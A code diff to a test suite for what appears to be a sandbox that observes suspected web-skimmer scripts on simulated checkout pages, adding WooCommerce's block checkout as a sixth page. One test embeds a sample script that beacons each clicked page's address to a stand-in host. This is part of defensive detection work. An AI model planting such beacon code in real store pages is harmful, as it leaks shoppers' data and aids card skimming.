@@ -89,13 +89,15 @@ describe('what an observation records', () => {
     expect(o.compiled).toEqual([])
   })
 
-  it('names the sample, the chamber and the five checkouts', async () => {
+  it('names the sample, the chamber and the six checkouts', async () => {
     const o = await observe('luhn-validator')
     expect(o.sha256).toBe(sha256(byName('luhn-validator').source))
     expect(o.chamberVersion).toBe(CHAMBER_VERSION)
     expect(o.pages).toEqual([
       'https://shop.example/checkout/#payment',
       expect.stringMatching(/\/checkout\/onepage\/.*billing.*onestepcheckout/),
+      'https://shop.example/checkout/',
+      // WooCommerce's block checkout, at the same address as its classic one
       'https://shop.example/checkout/',
       'https://shop.example/index.php?route=checkout/checkout',
       'https://shop.example/order',
@@ -210,9 +212,10 @@ describe('a sample that navigates the page itself', () => {
         " document.addEventListener('click', function () { new Image().src = 'https://c.example/seen?at=' + encodeURIComponent(location.href) })",
     )
     expect(o.status, o.reason ?? '').toBe('ok')
-    // five checkouts, then the order confirmation: the sample wrote to sessionStorage
-    expect(o.pages).toHaveLength(6)
+    // six checkouts, then the order confirmation: the sample wrote to sessionStorage
+    expect(o.pages).toHaveLength(7)
     const seen = o.requests.filter((r) => r.url.startsWith('https://c.example/seen'))
+    // WooCommerce's two checkouts share one address
     expect(new Set(seen.map((r) => new URL(r.url).searchParams.get('at'))).size).toBe(5)
   })
 })
